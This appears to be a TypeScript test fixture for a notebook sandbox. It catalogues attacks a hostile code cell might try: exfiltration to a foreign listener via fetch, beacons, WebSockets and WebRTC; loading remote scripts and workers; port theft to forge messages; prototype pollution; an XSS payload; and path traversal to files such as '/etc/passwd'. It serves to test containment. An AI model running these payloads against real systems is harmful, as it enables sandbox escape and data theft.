/**
 * Attacks that a hostile cell may try. Each attack is the body of an async function with these names in scope:
 *   http   the address of a foreign HTTP server; the path identifies the attack
 *   tcp    host:port of a foreign TCP listener,   udp   of a foreign UDP one
 *   own    the origin that served the page
 *   port   in the control, the worker's end of a channel to a page that trusts it; undefined in a cell
 *
 * `realm` is where it succeeds without walls: a module worker, a classic one, or the page itself. `seen` is the
 * evidence of success, which must not occur inside the walls:
 *   "http" "tcp" "udp"   a foreign listener receives data
 *   "own"                the app's own server gets a request
 *   "value"              the code returns true: it stored or reached something
 *   a function           the page is in a state that it must not be in
 */
export interface Attack {
  name: string;
  code: string;
  realm: "worker" | "classic" | "window";
  seen: "http" | "tcp" | "udp" | "own" | "value" | ((page: PageState) => boolean);
}

/** The observable state of a page: of the control, which trusts its worker, and of ours. */
export interface PageState {
  polluted: boolean;
  /** Results of the page's requests. */
  answers: { forged?: boolean }[];
  outputs: { cell: string; type: string; text: string }[];
  files: string[];
  broadcasts: string[];
  locks: string[];
  /** Messages to the window, or from the worker itself. */
  messages: string[];
}

function attack(name: string, realm: Attack["realm"], seen: Attack["seen"], code: string): Attack {
  return { name, realm, seen, code };
}

/** Hidden from the parser, because `import(...)` in a cell is otherwise replaced. */
const rawImport = `const load = new Function("u", "return import(u)");`;

const network: Attack[] = [
  attack("fetch", "worker", "http", `await fetch(http)`),
  attack(
    "fetch, no-cors, with a body",
    "worker",
    "http",
    `await fetch(http, { method: "POST", mode: "no-cors", body: "secret" })`,
  ),
  attack("fetch, keepalive", "worker", "http", `await fetch(http, { keepalive: true })`),
  attack(
    "fetch of a Request",
    "worker",
    "http",
    `await fetch(new Request(http, { mode: "no-cors", credentials: "include" }))`,
  ),
  attack("fetch with a custom header", "worker", "http", `await fetch(http, { headers: { "x-secret": "1" } })`),
  attack(
    "fetch by Reflect",
    "worker",
    "http",
    `await Reflect.apply(Reflect.get(globalThis, "fetch"), globalThis, [http])`,
  ),
  attack("fetch from code made by Function", "worker", "http", `await new Function("u", "return fetch(u)")(http)`),
  attack(
    "fetch from code made by an async function's constructor",
    "worker",
    "http",
    `await (async () => {}).constructor("u", "return fetch(u)")(http)`,
  ),
  attack("fetch by indirect eval", "worker", "http", `await (0, eval)("fetch")(http)`),
  attack(
    "fetch from a string timer",
    "worker",
    "http",
    `setTimeout("fetch('" + http + "')"); await new Promise((done) => setTimeout(done, 300))`,
  ),
  attack("fetch to TLS", "worker", "tcp", `await fetch("https://" + tcp + "/")`),
  attack(
    "XMLHttpRequest",
    "worker",
    "http",
    `const x = new XMLHttpRequest(); x.open("GET", http); x.send(); await new Promise((done) => (x.onloadend = done))`,
  ),
  attack(
    "XMLHttpRequest, synchronous",
    "worker",
    "http",
    `const x = new XMLHttpRequest(); x.open("GET", http, false); x.send()`,
  ),
  attack(
    "WebSocket",
    "worker",
    "http",
    `new WebSocket(http.replace("http", "ws")); await new Promise((done) => setTimeout(done, 300))`,
  ),
  attack(
    "WebSocket to TLS",
    "worker",
    "tcp",
    `new WebSocket("wss://" + tcp + "/"); await new Promise((done) => setTimeout(done, 300))`,
  ),
  attack("WebSocketStream", "worker", "http", `await new WebSocketStream(http.replace("http", "ws")).opened`),
  attack("EventSource", "worker", "http", `new EventSource(http); await new Promise((done) => setTimeout(done, 300))`),
  attack("WebTransport", "worker", "udp", `await new WebTransport("https://" + udp + "/").ready`),
  attack("FontFace", "worker", "http", `await new FontFace("f", "url(" + http + ")").load()`),
  attack("the cache's own loading", "worker", "http", `await (await caches.open("c")).add(http)`),
  attack("streaming WebAssembly", "worker", "http", `await WebAssembly.instantiateStreaming(fetch(http))`),
  attack(
    "compiling WebAssembly from a Response",
    "worker",
    "http",
    `await WebAssembly.compileStreaming(fetch(new Request(http)))`,
  ),
  attack(
    "sendBeacon",
    "window",
    "http",
    `navigator.sendBeacon(http, "secret"); await new Promise((done) => setTimeout(done, 300))`,
  ),
  attack(
    "fetchLater",
    "window",
    "http",
    `fetchLater(http, { activateAfter: 0 }); await new Promise((done) => setTimeout(done, 300))`,
  ),
  attack(
    "an image",
    "window",
    "http",
    `const i = new Image(); i.src = http; await new Promise((done) => (i.onload = i.onerror = done))`,
  ),
  attack(
    "a sound",
    "window",
    "http",
    `const a = new Audio(http); a.load(); await new Promise((done) => setTimeout(done, 500))`,
  ),
  attack(
    "a script element",
    "window",
    "http",
    `const s = document.createElement("script"); s.src = http; document.head.append(s); await new Promise((done) => (s.onload = s.onerror = done))`,
  ),
  attack(
    "a style sheet",
    "window",
    "http",
    `const s = document.createElement("style"); s.textContent = "@import url(" + http + ")"; document.head.append(s); await new Promise((done) => setTimeout(done, 300))`,
  ),
  attack(
    "a frame",
    "window",
    "http",
    `const f = document.createElement("iframe"); f.src = http; document.body.append(f); await new Promise((done) => (f.onload = done))`,
  ),
  attack(
    "a form",
    "window",
    "http",
    `const f = document.createElement("form"); f.action = http; f.method = "post"; f.target = "_blank"; document.body.append(f); f.submit(); await new Promise((done) => setTimeout(done, 500))`,
  ),
  attack("window.open", "window", "http", `open(http); await new Promise((done) => setTimeout(done, 500))`),
  attack(
    "an audio worklet",
    "window",
    "http",
    `await new OfflineAudioContext(1, 1, 44100).audioWorklet.addModule(http)`,
  ),
  attack(
    "navigation by location",
    "window",
    "http",
    `self.location = http; await new Promise((done) => setTimeout(done, 500))`,
  ),
  attack(
    "navigation by location.href",
    "window",
    "http",
    `location.href = http; await new Promise((done) => setTimeout(done, 500))`,
  ),
  attack(
    "navigation of the top",
    "window",
    "http",
    `top.location.assign(http); await new Promise((done) => setTimeout(done, 500))`,
  ),
  attack(
    "WebRTC, STUN",
    "window",
    "udp",
    `const c = new RTCPeerConnection({ iceServers: [{ urls: "stun:" + udp }] }); c.createDataChannel("d"); await c.setLocalDescription(await c.createOffer()); await new Promise((done) => setTimeout(done, 1500))`,
  ),
  attack(
    "WebRTC, TURN over TCP",
    "window",
    "tcp",
    `const c = new RTCPeerConnection({ iceServers: [{ urls: "turn:" + tcp + "?transport=tcp", username: "secret", credential: "s" }] }); c.createDataChannel("d"); await c.setLocalDescription(await c.createOffer()); await new Promise((done) => setTimeout(done, 1500))`,
  ),
];

const code: Attack[] = [
  attack("importScripts", "classic", "http", `importScripts(http)`),
  attack(
    "importScripts, taken from the prototype",
    "classic",
    "http",
    `Object.getPrototypeOf(Object.getPrototypeOf(self)).importScripts.call(self, http)`,
  ),
  attack("import()", "worker", "http", `${rawImport} await load(http)`),
  attack(
    "import() of JSON",
    "worker",
    "http",
    `await new Function("u", "return import(u, { with: { type: 'json' } })")(http)`,
  ),
  attack(
    "import() from a data: module",
    "worker",
    "http",
    `${rawImport} await load("data:text/javascript,import%20" + encodeURIComponent(JSON.stringify(http)))`,
  ),
  attack(
    "import() of a blob: module",
    "worker",
    "http",
    `${rawImport} await load(URL.createObjectURL(new Blob(["await fetch(" + JSON.stringify(http) + ")"], { type: "text/javascript" })))`,
  ),
  attack(
    "a data: worker inside",
    "worker",
    "http",
    `new Worker("data:text/javascript,fetch(" + encodeURIComponent(JSON.stringify(http)) + ")"); await new Promise((done) => setTimeout(done, 500))`,
  ),
  attack(
    "a blob: worker inside",
    "worker",
    "http",
    `new Worker(URL.createObjectURL(new Blob(["fetch(" + JSON.stringify(http) + ")"]))); await new Promise((done) => setTimeout(done, 500))`,
  ),
  attack(
    "a module worker inside that imports",
    "worker",
    "http",
    `new Worker("data:text/javascript,import%20" + encodeURIComponent(JSON.stringify(http)), { type: "module" }); await new Promise((done) => setTimeout(done, 500))`,
  ),
  attack(
    "a shared worker",
    "window",
    "http",
    `new SharedWorker(URL.createObjectURL(new Blob(["fetch(" + JSON.stringify(http) + ")"]))); await new Promise((done) => setTimeout(done, 500))`,
  ),
  attack(
    "a service worker",
    "window",
    "value",
    `return (await navigator.serviceWorker.register("/worker.js", { scope: "/attack/" })).scope.includes("attack")`,
  ),
  attack(
    "a Worker taken from a prototype's constructor",
    "worker",
    "value",
    `const made = [self, ...Object.getOwnPropertyNames(self).map((n) => { try { return self[n] } catch { return null } })].find((v) => typeof v === "function" && v.name === "Worker"); return Boolean(new made("data:text/javascript,1"))`,
  ),
];

const ownServer: Attack[] = [
  attack("the app's own page", "worker", "own", `await fetch(own + "/")`),
  attack("the app's own modules", "worker", "own", `${rawImport} await load(own + "/index.html?module")`),
  attack("the app's own data, by path", "worker", "own", `await fetch("/data/anything")`),
  attack(
    "a socket to the app's own server",
    "worker",
    "own",
    `new WebSocket(own.replace("http", "ws")); await new Promise((done) => setTimeout(done, 300))`,
  ),
  attack(
    "a worker from the app's own address",
    "worker",
    "own",
    `new Worker(own + "/index.html?worker"); await new Promise((done) => setTimeout(done, 300))`,
  ),
];

const storage: Attack[] = [
  attack(
    "indexedDB",
    "worker",
    "value",
    `const open = indexedDB.open("attack"); open.onupgradeneeded = () => open.result.createObjectStore("s"); await new Promise((done, fail) => { open.onsuccess = done; open.onerror = () => fail(open.error) }); return (await indexedDB.databases()).some((d) => d.name === "attack")`,
  ),
  attack(
    "the cache",
    "worker",
    "value",
    `await (await caches.open("attack")).put("http://a.example/", new Response("secret")); return caches.has("attack")`,
  ),
  attack(
    "files of the origin",
    "worker",
    "value",
    `const root = await navigator.storage.getDirectory(); const file = await root.getFileHandle("attack", { create: true }); const w = await file.createWritable(); await w.write("secret"); await w.close(); return (await file.getFile()).size === 6`,
  ),
  attack(
    "files of the origin, synchronous",
    "worker",
    "value",
    `const root = await navigator.storage.getDirectory(); const h = await (await root.getFileHandle("attack2", { create: true })).createSyncAccessHandle(); h.write(new Uint8Array(4)); const size = h.getSize(); h.close(); return size === 4`,
  ),
  attack(
    "storage buckets",
    "worker",
    "value",
    `return Boolean(await (await navigator.storageBuckets.open("attack")).indexedDB)`,
  ),
  attack(
    "localStorage",
    "window",
    "value",
    `localStorage.setItem("attack", "1"); return localStorage.getItem("attack") === "1"`,
  ),
  attack(
    "sessionStorage",
    "window",
    "value",
    `sessionStorage.setItem("attack", "1"); return sessionStorage.getItem("attack") === "1"`,
  ),
  attack("cookies", "window", "value", `document.cookie = "attack=1"; return document.cookie.includes("attack")`),
  attack(
    "the cookie store",
    "window",
    "value",
    `await cookieStore.set("attack", "1"); return Boolean(await cookieStore.get("attack"))`,
  ),
  attack(
    "a broadcast to the page",
    "worker",
    ({ broadcasts }) => broadcasts.length > 0,
    `new BroadcastChannel("attack").postMessage("reached"); await new Promise((done) => setTimeout(done, 300))`,
  ),
  attack(
    "a lock that the page waits for",
    "worker",
    ({ locks }) => locks.includes("attack"),
    `navigator.locks.request("attack", () => new Promise(() => {})); await new Promise((done) => setTimeout(done, 300))`,
  ),
];

/** How a cell obtains the port: the runtime calls the port through its prototype, which the cell can replace. */
const stealPort =
  `const stolen = port ?? await new Promise((done) => { const send = MessagePort.prototype.postMessage; ` +
  `MessagePort.prototype.postMessage = function (...a) { MessagePort.prototype.postMessage = send; done(this); return send.apply(this, a) }; print("bait") });`;

const realm: Attack[] = [
  attack("the page's document", "window", "value", `return Boolean(parent.document.body)`),
  attack("the top window", "window", "value", `return Boolean(top.document.title.length + 1)`),
  attack("other frames", "window", "value", `return typeof frames.length === "number" && frames === window`),
  attack("the window behind, by the opener", "window", "value", `return "opener" in window`),
  attack("navigator.gpu", "worker", "value", `return "gpu" in navigator`),
  attack(
    "navigator.gpu, by its prototype",
    "worker",
    "value",
    `return Boolean(Object.getOwnPropertyDescriptor(WorkerNavigator.prototype, "gpu").get.call(navigator))`,
  ),
  attack("the worker's own address", "worker", "value", `return location.origin === own`),
  attack(
    "a message of the worker, not of its port",
    "worker",
    ({ messages }) => messages.length > 0,
    `self.postMessage({ type: "response", id: 1, ok: true, value: null, reached: true }); await new Promise((done) => setTimeout(done, 200))`,
  ),
  attack(
    "a message that pollutes prototypes",
    "worker",
    ({ polluted }) => polluted,
    `${stealPort} stolen.postMessage(JSON.parse('{"type":"event","event":{"kind":"changed","what":"models"},"__proto__":{"polluted":true},"constructor":{"prototype":{"polluted":true}}}')); await new Promise((done) => setTimeout(done, 200))`,
  ),
  attack(
    "a forged answer",
    "worker",
    ({ answers }) => answers.some(({ forged }) => forged),
    `${stealPort} for (let id = 0; id < 200; id++) stolen.postMessage({ type: "response", id, ok: true, value: { forged: true } }); await new Promise((done) => setTimeout(done, 200))`,
  ),
  attack(
    "an output for another cell",
    "worker",
    ({ outputs }) => outputs.some(({ cell }) => cell === "another"),
    `${stealPort} stolen.postMessage({ type: "event", event: { kind: "output", cell: "another", run: 1, output: { type: "text", text: "forged" } } }); await new Promise((done) => setTimeout(done, 200))`,
  ),
  attack(
    "markup as an output's type",
    "worker",
    ({ outputs }) => outputs.some(({ type }) => type === "html"),
    `${stealPort} stolen.postMessage({ type: "event", event: { kind: "output", cell: "cell", run: 1, output: { type: "html", text: "<img src=x onerror=alert(1)>" } } }); await new Promise((done) => setTimeout(done, 200))`,
  ),
  attack(
    "a text larger than any honest one",
    "worker",
    ({ outputs }) => outputs.some(({ text }) => text.length > 1e6),
    `${stealPort} stolen.postMessage({ type: "event", event: { kind: "output", cell: "cell", run: 1, output: { type: "text", text: "x".repeat(5e6) } } }); await new Promise((done) => setTimeout(done, 200))`,
  ),
  attack(
    "a file outside of the app's data",
    "worker",
    "own",
    `${stealPort} for (const path of ["../secret", "data/../../secret", http, "//" + tcp, "data/%2e%2e/x", "/etc/passwd"]) stolen.postMessage({ type: "hostRequest", id: 900, request: { kind: "readAsset", path } }); await new Promise((done) => setTimeout(done, 200))`,
  ),
  attack(
    "a file name that climbs",
    "worker",
    ({ files }) => files.length > 0,
    `${stealPort} for (const path of ["../x", "a/../../x", "/x", "a\\\\b", "", "a\\u0000b"]) stolen.postMessage({ type: "hostRequest", id: 901, request: { kind: "writeFile", path, bytes: new Uint8Array(1) } }); await new Promise((done) => setTimeout(done, 200))`,
  ),
];

export const attacks: readonly Attack[] = [...network, ...code, ...ownServer, ...storage, ...realm];
